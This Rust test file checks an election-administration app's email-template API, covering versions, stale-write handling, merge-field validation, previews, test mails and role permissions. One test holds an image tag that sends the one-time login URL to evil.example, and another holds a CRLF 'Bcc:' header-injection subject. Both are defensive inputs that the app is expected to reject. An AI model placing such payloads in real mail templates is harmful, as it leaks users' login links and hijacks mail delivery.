//! The texts of mails: checked as a whole, kept as versions, filled in once.

use valghalla::domain::roles::Role;
use valghalla_tests::{Method, json, on_both};

const BODY: &str =
    "Kære [user:full-name]\n\nVælg en adgangskode: [user:one-time-login-url]\nLog ind på [site:login-url]\n";

on_both! {
    async fn the_shipped_text_holds_until_somebody_writes_another(app: TestApp) {
        let administrator = app.administrator().await;
        let list = administrator.get("/email-templates").await.expect(200);
        assert_eq!(list["items"].as_array().unwrap().len(), 6);
        assert!(list["items"].as_array().unwrap().iter().all(|row| row["is_default"] == true && row["version"] == 0 && row["updated_at"].is_null()));
        let shipped = administrator.get("/email-templates/welcome").await;
        assert_eq!((shipped.version(), &shipped.expect(200)["locale"], &shipped.expect(200)["warnings"]), (0, &json!("da"), &json!([])));
        let required: Vec<_> = shipped.expect(200)["fields"].as_array().unwrap().iter().filter(|f| f["required"] == true).map(|f| f["name"].clone()).collect();
        assert_eq!(required, ["[user:one-time-login-url]"]);
        administrator.get("/email-templates/other").await.expect_problem(404, "not_found");
        administrator.get("/email-templates/welcome?locale=fr").await.expect_problem(400, "bad_request");

        let changed = administrator.put("/email-templates/welcome", 0, &json!({"subject": "Velkommen", "body": BODY})).await;
        let view = changed.expect(200);
        assert_eq!((changed.version(), &view["subject"], &view["is_default"]), (1, &json!("Velkommen"), &json!(false)));
        assert!(view["updated_by"].as_str().unwrap().starts_with("Navn "));
        assert_eq!(administrator.get("/email-templates/welcome?locale=en").await.expect(200)["is_default"], true);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": BODY})).await.expect_problem(412, "stale");
        administrator.send(Method::PUT, "/email-templates/welcome", None, Some(&json!({"subject": "x", "body": BODY}))).await.expect_problem(428, "precondition_required");

        administrator.delete("/email-templates/welcome", 0).await.expect_problem(412, "stale");
        administrator.delete("/email-templates/welcome", 1).await.expect(204);
        let back = administrator.get("/email-templates/welcome").await;
        assert_eq!((back.version(), &back.expect(200)["subject"]), (2, &shipped.expect(200)["subject"]));
        let versions = administrator.get("/email-templates/welcome/versions").await.expect(200);
        let kept: Vec<_> = versions["items"].as_array().unwrap().iter().map(|v| (v["version"].as_i64().unwrap(), v["is_default"].as_bool().unwrap())).collect();
        assert_eq!(kept, [(2, true), (1, false)]);
        assert_eq!(versions["items"][1]["body"], BODY.trim_end());
    }

    async fn of_two_changes_at_once_one_is_stale(app: TestApp) {
        let administrator = app.administrator().await;
        let change = |subject: &str| json!({"subject": subject, "body": BODY});
        let (one, two) = (change("en"), change("to"));
        let (one, two) = tokio::join!(administrator.put("/email-templates/welcome", 0, &one), administrator.put("/email-templates/welcome", 0, &two));
        let mut statuses = [one.status, two.status];
        statuses.sort_unstable();
        assert_eq!(statuses, [200, 412]);
    }

    async fn a_link_that_something_is_glued_to_is_refused(app: TestApp) {
        let administrator = app.administrator().await;
        let body = "Hej\n<img src=\"http://evil.example/?x=[user:one-time-login-url]\">\n[site:login-url]";
        let answer = administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": body})).await;
        answer.expect_fields(&[("/body", "link_field_glued")]);
        let error = answer.expect(422)["errors"][0].clone();
        assert_eq!((&error["line"], &error["column"]), (&json!(2), &json!(34)));
    }

    async fn everything_wrong_is_told_at_once_with_its_place(app: TestApp) {
        let administrator = app.administrator().await;
        let broken = json!({"subject": "Hej [user:nmae]", "body": "Kære\n  [user:full-nam]\n[site:name og [user:one-time-login-url"});
        let answer = administrator.put("/email-templates/welcome", 0, &broken).await;
        answer.expect_fields(&[
            ("/subject", "merge_field_unknown"), ("/body", "merge_field_unknown"), ("/body", "merge_field_unclosed"),
            ("/body", "merge_field_unclosed"), ("/body", "link_field_missing"),
        ]);
        let errors = answer.expect(422)["errors"].as_array().unwrap().clone();
        let unknown = errors.iter().find(|e| e["pointer"] == "/body" && e["code"] == "merge_field_unknown").unwrap();
        assert_eq!((&unknown["line"], &unknown["column"], &unknown["suggestion"]), (&json!(2), &json!(3), &json!("[user:full-name]")));
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "a\r\nBcc: x@example.dk", "body": BODY})).await.expect_fields(&[("/subject", "line_break")]);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x"})).await.expect_fields(&[("/body", "required")]);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": "a".repeat(20_001)})).await.expect_fields(&[("/body", "too_long")]);
        assert_eq!(administrator.get("/email-templates/welcome").await.version(), 0, "nothing was saved");
    }

    async fn a_preview_is_filled_in_and_saves_nothing(app: TestApp) {
        let officer = app.officer().await;
        let body = format!("{BODY}<b>");
        let preview = officer.post("/email-templates/welcome/preview", &json!({"subject": "Til [user:name]", "body": body})).await.expect(200);
        assert_eq!(preview["subject"], "Til birgit.dahl");
        assert!(preview["text"].as_str().unwrap().contains(&format!("{}/set-password#eksempel", app.url)));
        assert!(preview["html"].as_str().unwrap().contains("&lt;b&gt;"));
        let warned = json!({"subject": "x", "body": "[user:one-time-login-url]"});
        assert_eq!(officer.post("/email-templates/welcome/preview", &warned).await.expect(200)["warnings"], json!(["login_url_missing"]));
        assert_eq!(officer.get("/email-templates/welcome").await.version(), 0);
        assert_eq!(app.administrator().await.get("/mails").await.ids(), Vec::<String>::new());
    }

    async fn mails_are_made_from_the_text_in_force_and_queued_ones_stay(app: TestApp) {
        let administrator = app.administrator().await;
        let user = |name: &str| json!({"username": name, "full_name": "[user:one-time-login-url]", "email": format!("{name}@example.dk"), "role": "party_secretary", "grants": [], "notify": true});
        administrator.post("/users", &user("foer")).await.expect(201);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "Ny tekst", "body": BODY})).await.expect(200);
        administrator.post("/users", &user("efter")).await.expect(201);
        let page = app.anonymous().page("/dev/mails").await.text;
        assert_eq!(page.matches("<h2>Ny tekst</h2>").count(), 1);
        assert_eq!(page.matches("<article>").count(), 2);
        assert!(page.contains("Kære [user:one-time-login-url]"), "a name is never a field");
    }

    async fn a_test_mail_goes_to_oneself_once(app: TestApp) {
        let administrator = app.administrator().await;
        let text = json!({"subject": "Prøve", "body": BODY});
        let once = administrator.with("idempotency-key", "test-1");
        let first = once.post("/email-templates/welcome/test-mails", &text).await.expect(202);
        assert_eq!(once.post("/email-templates/welcome/test-mails", &text).await.expect(202), first);
        let mails = administrator.get("/mails").await.expect(200);
        assert_eq!(mails["items"].as_array().unwrap().len(), 1);
        assert_eq!((&mails["items"][0]["id"], &mails["items"][0]["kind"]), (&first["mail_id"], &json!("test")));
        assert_eq!(mails["items"][0]["recipient"], format!("{}@example.dk", administrator.username));
        assert!(app.anonymous().page("/dev/mails").await.text.contains("<h2>[Test] Prøve</h2>"));
        administrator.post("/email-templates/welcome/test-mails", &json!({"subject": "x", "body": "x"})).await.expect_fields(&[("/body", "link_field_missing")]);
    }

    async fn who_may_do_what(app: TestApp) {
        let text = json!({"subject": "x", "body": BODY});
        let officer = app.officer().await;
        officer.get("/email-templates").await.expect(200);
        officer.get("/email-templates/welcome/versions").await.expect(200);
        officer.put("/email-templates/welcome", 0, &text).await.expect_problem(403, "forbidden");
        officer.delete("/email-templates/welcome", 0).await.expect_problem(403, "forbidden");
        officer.post("/email-templates/welcome/test-mails", &text).await.expect_problem(403, "forbidden");
        for role in [Role::PartySecretary, Role::Auditor] {
            app.somebody(role).await.get("/email-templates").await.expect_problem(403, "forbidden");
        }
        app.administrator().await.put("/email-templates/welcome", 0, &text).await.expect(200);
        let elsewhere = app.another_municipality("0101").await;
        let other = app.somebody_in(elsewhere, Role::Administrator).await;
        assert_eq!(other.get("/email-templates/welcome").await.expect(200)["is_default"], true);
    }

    async fn the_staff_are_not_thanked_for_helping_a_party(app: TestApp) {
        let admin = app.administrator().await;
        for (username, role) in [("anna", "party_secretary"), ("bent", "election_officer"), ("carl", "auditor"), ("dora", "administrator")] {
            let user = json!({
                "username": username, "full_name": "Åse Ørsted", "email": format!("{username}@example.dk"), "role": role,
                "grants": [], "notify": true,
            });
            admin.post("/users", &user).await.expect(201);
        }
        for mail in app.mails().await {
            let thanks = mail.composed.text.contains("hjælper dit parti");
            assert_eq!(thanks, mail.recipient == "anna@example.dk", "{}", mail.recipient);
            assert!(mail.composed.text.contains("/set-password#"), "{}", mail.recipient);
        }
        assert_eq!(app.mails().await.len(), 4);
        let own = json!({"subject": "Til kolleger", "body": BODY});
        admin.put("/email-templates/staff_welcome", 0, &own).await.expect(200);
        assert_eq!(admin.get("/email-templates/welcome").await.expect(200)["is_default"], true);
    }
}
